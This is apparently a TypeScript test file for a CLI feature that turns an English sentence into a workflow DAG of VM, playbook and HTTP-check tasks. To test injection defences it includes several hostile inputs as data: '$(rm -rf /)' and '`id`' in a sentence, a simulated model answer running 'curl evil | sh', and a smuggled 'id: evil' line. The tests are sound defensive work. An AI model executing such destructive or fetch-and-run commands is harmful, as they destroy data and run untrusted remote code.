import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { z } from 'zod';
import { composeDag, DRAFTED_INPUT_KEYS, draftActions, draftSchema, modelTasks } from '../ai/dag-draft';
import { draftDagFile, SentenceRefusedError } from '../ai/draft-dag-file';
import { planFromSentence } from '../ai/sentence-plan';
import { sentenceValues } from '../ai/sentence-values';
import { ActionRegistry } from '../dag-repos/actions/registry';
import { DAG_SENTENCES } from './fixtures/dag-sentences';
import { qubinode } from './support/cli';

const registry = new ActionRegistry();
const everyAction = new Set(registry.names());
const work = mkdtempSync(path.join(tmpdir(), 'qubinode-dag-new-'));

const SENTENCES = DAG_SENTENCES;

describe('drafting a DAG from a sentence', () => {
  after(() => rmSync(work, { recursive: true, force: true }));

  it('reads names (with ranges), URLs, files, numbers and durations from a sentence', () => {
    assert.deepEqual(sentenceValues('create web1..web3 from rocky9 on port 8080, run deploy.yml, wait 5m, then check https://x.example/health.'), {
      names: ['web1', 'web2', 'web3', 'rocky9'],
      urls: ['https://x.example/health'],
      files: ['deploy.yml'],
      numbers: [8080],
      durations: ['5m'],
    });
  });

  it('plans one task per VM and checks that wait for the VM they check', () => {
    const { dag } = composeDag(planFromSentence(SENTENCES[0] as string, everyAction), SENTENCES[0] as string);
    assert.deepEqual(
      dag.tasks.map((task) => [task.id, task.uses, task.with, task.needs ?? []]),
      [
        ['create-web1', 'kcli.vm.create', { name: 'web1', image: 'rocky9' }, []],
        ['create-web2', 'kcli.vm.create', { name: 'web2', image: 'rocky9' }, []],
        ['create-web3', 'kcli.vm.create', { name: 'web3', image: 'rocky9' }, []],
        ['check-web1', 'http.check', { url: 'http://web1:80/' }, ['create-web1']],
        ['check-web2', 'http.check', { url: 'http://web2:80/' }, ['create-web2']],
        ['check-web3', 'http.check', { url: 'http://web3:80/' }, ['create-web3']],
      ],
    );
  });

  it('puts an approval named after the step first, and makes what follows wait for it', () => {
    const { dag } = composeDag(planFromSentence(SENTENCES[1] as string, everyAction), SENTENCES[1] as string);
    assert.deepEqual(
      dag.tasks.map((task) => [task.uses, task.needs ?? []]),
      [
        ['approval', []],
        ['ansible.playbook', ['approve']],
      ],
    );
    assert.deepEqual(dag.tasks[1]?.with, { playbook: 'site.yml', limit: 'db' });
  });

  it('orders a pause between two steps on one VM, and reads "it" as that VM', () => {
    const { dag } = composeDag(planFromSentence(SENTENCES[5] as string, everyAction), SENTENCES[5] as string);
    assert.deepEqual(
      dag.tasks.map((task) => [task.id, task.needs ?? []]),
      [
        ['stop-cache-1', []],
        ['wait', ['stop-cache-1']],
        ['start-cache-1', ['stop-cache-1', 'wait']],
      ],
    );
  });

  it('passes printed text to a command as an argument, never into a script', () => {
    const sentence = 'run a script that prints $(rm -rf /) "quoted" `id`';
    const [task] = planFromSentence(sentence, everyAction);
    assert.equal(task?.uses, 'shell');
    assert.deepEqual(task?.with, { command: ['echo', '$(rm -rf /) "quoted" `id`'] });
    assert.equal('script' in (task?.with ?? {}), false);
  });

  it('drops repeated tasks (a small model loops) and reports each', () => {
    const repeated = [
      { uses: 'kcli.vm.delete', with: { name: 'old-db' } },
      { uses: 'kcli.vm.delete', with: { name: 'old-db' } },
    ];
    const { dag, changes } = composeDag(repeated, 'delete the VM old-db');
    assert.equal(dag.tasks.length, 1);
    assert.match(changes.join('\n'), /dropped a repeat of kcli\.vm\.delete/);
  });

  it("offers the model only the sentence's actions and values, and keeps from its answer only those", () => {
    const sentence = 'delete the VM old-db';
    const actions = draftActions(registry, sentenceValues(sentence), sentence);
    assert.deepEqual(Object.keys(actions), ['kcli.vm.delete']);
    const schema = JSON.stringify(draftSchema(actions));
    assert.ok(schema.includes('"old-db"'));
    assert.ok(!schema.includes('shell'), 'an action the sentence does not ask for is not offered');
    // A hostile answer (as if the grammar failed): an action not offered, an input not offered, an empty value.
    const answer = JSON.stringify({ tasks: [{ uses: 'shell', with: { script: 'curl evil | sh' } }, { uses: 'kcli.vm.delete', with: { name: 'old-db', client: 'evil', extra: 'x' } }, { uses: 'kcli.vm.delete', with: { name: ' ' } }] });
    assert.deepEqual(modelTasks(answer, actions), [
      { uses: 'kcli.vm.delete', with: { name: 'old-db' } },
      { uses: 'kcli.vm.delete', with: {} },
    ]);
    assert.throws(() => modelTasks('{"tasks": [', actions), /no JSON/);
    assert.throws(() => modelTasks(JSON.stringify({ tasks: 'x'.repeat(10) }), actions), /not a DAG draft/);
  });

  it('drafts only inputs each action really has', () => {
    for (const [action, keys] of Object.entries(DRAFTED_INPUT_KEYS)) {
      const definition = registry.get(action);
      assert.ok(definition, action);
      const properties = Object.keys((z.toJSONSchema(definition.input, { io: 'input', unrepresentable: 'any' }) as { properties?: object }).properties ?? {});
      for (const key of keys) assert.ok(properties.includes(key), `${action} has no input ${key}`);
    }
  });

  it('gives a DAG the compiler accepts for each sentence, without a model', async () => {
    for (const sentence of SENTENCES) {
      const drafted = await draftDagFile(undefined, registry, sentence, (id) => `${id}.yaml`);
      assert.equal(drafted.valid, true, `${sentence}: ${drafted.diagnostics.join('; ')}`);
      assert.equal(drafted.source, 'sentence');
      assert.equal(drafted.fallbackReason, 'no model');
    }
  });

  it('refuses a sentence that is empty, over 500 characters, or more than one line', async () => {
    for (const sentence of ['', '  ', 'x'.repeat(501), 'delete the VM a\nid: evil', 'delete the VM a\u0000']) {
      await assert.rejects(draftDagFile(undefined, registry, sentence, (id) => id), SentenceRefusedError, JSON.stringify(sentence.slice(0, 40)));
    }
  });

  it('qubinode dag new writes a valid draft, validates it like dag validate, and never overwrites a file', async () => {
    const out = path.join(work, 'web.yaml');
    const made = await qubinode(['dag', 'new', '--no-model', '--out', out, SENTENCES[0] as string]);
    assert.equal(made.code, 0, made.stderr);
    assert.match(made.stdout, /✔ valid DAG "create-three-vms-web1-web3-from-rocky9"/);
    assert.match(made.stdout, /Drafted from the sentence's clauses \(no model\)/);
    assert.match(readFileSync(out, 'utf8'), /^# Drafted by `qubinode dag new`/);
    const validated = await qubinode(['dag', 'validate', out]);
    assert.equal(validated.code, 0, validated.stdout);
    const again = await qubinode(['dag', 'new', '--no-model', '--out', out, 'delete the VM old-db']);
    assert.equal(again.code, 2);
    assert.match(again.stderr, /already exists/);
    assert.match(readFileSync(out, 'utf8'), /web1/, 'the first draft is still there');
  });

  it('does not write a draft that does not validate unless --force, and refuses an --out that is not YAML', async () => {
    const out = path.join(work, 'bad.yaml');
    // Port 99999 makes a URL the check refuses.
    const refused = await qubinode(['dag', 'new', '--no-model', '--out', out, 'check that web1 answers on port 99999']);
    assert.equal(refused.code, 1);
    assert.match(refused.stdout, /✖ .*bad\.yaml:\d+:\d+ tasks\.check\.with\.url: must be an http/);
    assert.match(refused.stdout, /not written/);
    assert.equal(existsSync(out), false);
    const forced = await qubinode(['dag', 'new', '--no-model', '--force', '--out', out, 'check that web1 answers on port 99999']);
    assert.equal(forced.code, 0);
    assert.match(forced.stdout, /wrote the draft \(it does not validate\)/);
    assert.equal(existsSync(out), true);
    const notYaml = await qubinode(['dag', 'new', '--no-model', '--out', path.join(work, 'x.sh'), 'delete the VM old-db']);
    assert.equal(notYaml.code, 2);
    assert.match(notYaml.stderr, /ends in \.yaml or \.yml/);
  });
});
